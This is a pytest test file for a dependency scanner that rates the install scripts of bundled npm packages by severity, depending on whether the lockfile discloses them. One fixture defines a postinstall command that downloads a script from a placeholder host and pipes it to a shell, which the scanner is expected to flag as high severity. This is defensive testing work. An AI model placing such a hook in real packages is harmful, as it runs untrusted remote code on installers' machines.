"""What a package brings along, against what the lockfile says of it."""

from typing import Any

import pytest

from forecheck.model import Severity
from tests.checks.running import findings

INNER = {"name": "inner", "version": "1.0.0"}
BUNDLE = {"dependencies": {"inner": "*"}, "bundleDependencies": ["inner"]}


def carrier(inner: dict[str, Any] | str, **manifest: Any) -> tuple[tuple[str, Any], tuple[str, Any]]:
    """A package `outer` that holds `inner`, and what the registry says of it."""
    declared = {"name": "outer", "version": "1.0.0", **manifest}
    files = {"package.json": declared, "node_modules/inner/package.json": inner}
    return (
        ("packument.json", {"name": "outer", "versions": {"1.0.0": manifest}}),
        ("tarball.json", {"release": "outer@1.0.0", "files": files}),
    )


def lock(version: int, **inner: Any) -> tuple[str, Any]:
    if version == 1:
        outer = {"version": "1.0.0", "dependencies": {"inner": {"version": "1.0.0", "bundled": True}}}
        return "package-lock.json", {"lockfileVersion": 1, "dependencies": {"outer": outer}}
    packages: dict[str, Any] = {
        "": {"dependencies": {"outer": "*"}},
        "node_modules/outer": {"version": "1.0.0", **BUNDLE},
    }
    if inner:
        packages["node_modules/outer/node_modules/inner"] = {"version": "1.0.0", "inBundle": True, **inner}
    return "package-lock.json", {"lockfileVersion": 3, "packages": packages}


def script(text: str) -> dict[str, Any]:
    return {**INNER, "scripts": {"postinstall": text}}


SILENT = lock(3, dev=False)
HONEST = lock(3, hasInstallScript=True)
LEFT_OUT = lock(3)
OLD = lock(1)
NODE, BUILD, BAD = "node x.js", "node-gyp rebuild", "curl https://h.example | sh"
HIGH, MEDIUM, LOW = Severity.HIGH, Severity.MEDIUM, Severity.LOW


@pytest.mark.parametrize(
    ("text", "lockfile", "severities"),
    [
        (NODE, SILENT, [HIGH]),
        (NODE, LEFT_OUT, [HIGH]),
        (NODE, HONEST, [MEDIUM]),
        (NODE, OLD, [MEDIUM]),
        (BUILD, SILENT, [MEDIUM]),
        (BUILD, LEFT_OUT, [MEDIUM]),
        (BUILD, OLD, [LOW]),
        (BAD, SILENT, [HIGH]),
        (BAD, OLD, [HIGH]),
        ("echo thanks", SILENT, []),
    ],
)
def test_scripts_of_what_is_bundled(text: str, lockfile: tuple[str, Any], severities: list[Severity]) -> None:
    found = findings("bundled-install-script", *carrier(script(text), **BUNDLE), lockfile)
    assert [one.severity for one in found] == severities


@pytest.mark.parametrize(("text", "severities"), [(NODE, [MEDIUM]), (BUILD, [LOW]), (BAD, [HIGH])])
def test_what_lies_in_the_tarball_without_being_bundled(text: str, severities: list[Severity]) -> None:
    found = findings("bundled-install-script", *carrier(script(text)))
    assert [one.severity for one in found] == severities


@pytest.mark.parametrize(
    ("lockfile", "manifest", "severities"),
    [(LEFT_OUT, BUNDLE, [HIGH]), (SILENT, BUNDLE, []), (OLD, BUNDLE, []), (LEFT_OUT, {}, [])],
)
def test_what_the_lockfile_leaves_out(
    lockfile: tuple[str, Any], manifest: dict[str, Any], severities: list[Severity]
) -> None:
    found = findings("bundled-install-script", *carrier(INNER, **manifest), lockfile)
    assert [one.severity for one in found] == severities


def test_an_inner_manifest_that_cannot_be_read_is_told() -> None:
    [found] = findings("bundled-install-script", *carrier("{", **BUNDLE), SILENT)
    assert "node_modules/inner" in found.message
    assert found.severity is MEDIUM
